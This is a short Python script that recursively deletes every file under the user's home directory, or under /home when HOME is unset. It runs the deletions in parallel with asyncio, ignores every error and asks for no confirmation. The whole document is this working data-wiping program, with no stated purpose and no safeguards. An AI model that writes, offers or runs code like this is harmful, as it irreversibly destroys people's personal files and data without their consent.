import asyncio
import os

async def remove(path):
    try:
        await asyncio.to_thread(os.remove, path)
    except OSError:
        pass

async def main(root):
    tasks = []
    for dp, _, files in os.walk(root):
        tasks += [remove(os.path.join(dp, f)) for f in files]
    await asyncio.gather(*tasks)

asyncio.run(main(os.environ.get("HOME", "/home")))
